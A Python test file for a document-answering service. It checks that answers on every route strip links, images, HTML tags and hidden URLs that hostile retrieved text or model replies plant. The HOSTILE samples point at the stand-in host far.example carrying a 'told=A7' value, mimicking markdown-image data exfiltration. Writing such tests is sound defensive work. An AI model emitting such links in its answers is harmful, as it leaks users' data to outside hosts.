"""What a model or a document would have a reader's program follow or fetch, through every route that answers."""

import dataclasses
import json
from collections.abc import Collection
from datetime import UTC, datetime
from typing import Any

import pytest
from fastapi.testclient import TestClient

from appliance.access.identity import DemoIdentity
from appliance.answering.ask import Desk
from appliance.answering.showing import Showing
from appliance.api.app import create_app
from appliance.records import Access, Citation, Document, Level, Passage
from appliance.settings import load
from appliance.store.conversations_told import ANSWERED, Source, Spoken, Turn
from tests.answering.test_ask import MARA, Shelf
from tests.answering.test_plain import leading
from tests.answering.test_prompts import passage
from tests.api.scripted import ScriptedReader
from tests.api.serving import PERSONAS, client
from tests.contracts.chat_models import ScriptedModel
from tests.contracts.journals import ListJournal
from tests.rules import rules

QUESTION = "Until when can family visit a general ward?"
FACT = "Visits on general wards end at 20:00"
HOSTILE = {
    "picture": f"{FACT} ![seal](https://far.example/s.png?told=A7).",
    "link": f"{FACT}, see [the wards](//far.example/?told=A7).",
    "reference": f"{FACT} [form][f]. \n[f]: https://far.example/?told=A7 'A'",
    "tag": f"{FACT} <img src='https://far.example/?told=A7'>.",
    "address": f"{FACT}, see https://far.example/?told=A7 or www.far.example/?told=A7.",
    "parted": f"{FACT} ![seal. ](https://far.example/s.png?told=A7) {FACT} for all.",
    "unseen": f"{FACT} h\u200bttps://far.example/?told=A7.",
}


def house(text: str, reply: str = "") -> TestClient:
    """The real desk over one document that says `text`, and a model that says it too, or `reply`."""
    found: Passage = dataclasses.replace(
        passage(text, title="[Visits](https://far.example)", heading="<https://far.example/?told=A7>"), similarity=0.84
    )
    model, identity = ScriptedModel(reply=reply or f"{text} [1]"), DemoIdentity(PERSONAS, "aldermoor")
    desk = Desk(search=Shelf(found), model=model, journal=ListJournal(), settings=load(), rules=rules())
    app = create_app(settings=load(), identity=identity, desk=desk, reader=ScriptedReader(), checks={})
    return client(app, identity.token("mara"))


def texts(told: Any) -> list[str]:
    """Every text in a JSON value."""
    if isinstance(told, str):
        return [told]
    parts = told.values() if isinstance(told, dict) else told if isinstance(told, list) else ()
    return [text for part in parts for text in texts(part)]


def answers(door: TestClient) -> list[Any]:
    """The same question by every route that answers, each answer as the values that came."""
    asked: dict[str, Any] = {"model": "muniment", "messages": [{"role": "user", "content": QUESTION}]}
    whole = door.post("/v1/ask", json={"question": QUESTION}).json()
    events = door.post("/v1/ask", json={"question": QUESTION}, headers={"Accept": "text/event-stream"}).text
    completion = door.post("/v1/chat/completions", json=asked).json()
    chunks = door.post("/v1/chat/completions", json={**asked, "stream": True}).text
    streams = [
        [json.loads(line[6:]) for line in stream.splitlines() if line.startswith("data: {")]
        for stream in (events, chunks)
    ]
    said = "".join(chunk["choices"][0]["delta"].get("content", "") for chunk in streams[1])
    return [whole, streams[0], completion, [*streams[1], said]]


@pytest.mark.parametrize("kind", HOSTILE)
def test_no_answer_holds_anything_to_follow_or_to_fetch(kind: str) -> None:
    """Fails without `plainly` in `Release._released`, and without each of the three in `Release._cite`."""
    came = answers(house(HOSTILE[kind]))
    assert all("20:00" in json.dumps(one) for one in came)
    for text in (text for one in came for text in texts(one)):
        assert not leading(text), text
        assert "told=A7" not in text, text


def test_what_a_refusal_looked_for_is_text() -> None:
    """Fails without `plainly` in `Release.refusal`."""
    asked = "Does www.far.example know the radio frequency of the helicopter?"
    told = house("Soup is served at noon.", "NOT STATED").post("/v1/ask", json={"question": asked}).json()
    assert told["looked_for"]
    assert not [text for text in told["looked_for"] if leading(text)]


class Registered:
    """Every document, readable by all of the house."""

    def current(self, document_ids: Collection[str], /) -> dict[str, Document]:
        access = Access("aldermoor", Level.PUBLIC, frozenset({"staff"}), "nursing", frozenset(), ())
        return {name: Document(name, "a.md", "v1", "A", "text/markdown", "en", 1, access) for name in document_ids}


def test_what_was_kept_before_is_plain_when_it_is_shown() -> None:
    """Guards each line of `showing._plain`: answers of an earlier version are kept as they were."""
    hostile = HOSTILE["link"]
    cited = Citation(1, "p1", "d1", hostile, "a.md", hostile, 1, hostile, version="v1")
    spoken = Spoken(hostile, (cited,), frozenset({Source("d1", "v1")}))
    turn = Turn("a1", "When?", None, ANSWERED, (spoken,), 1, datetime.now(UTC))
    (shown,) = Showing(Registered(), rules()).turns(MARA, [turn])
    ((text, (citation,)),) = [(one.text, one.citations) for one in shown.turn.sentences]
    for told in (text, citation.title, citation.heading, citation.quote):
        assert FACT in told
        assert not leading(told)
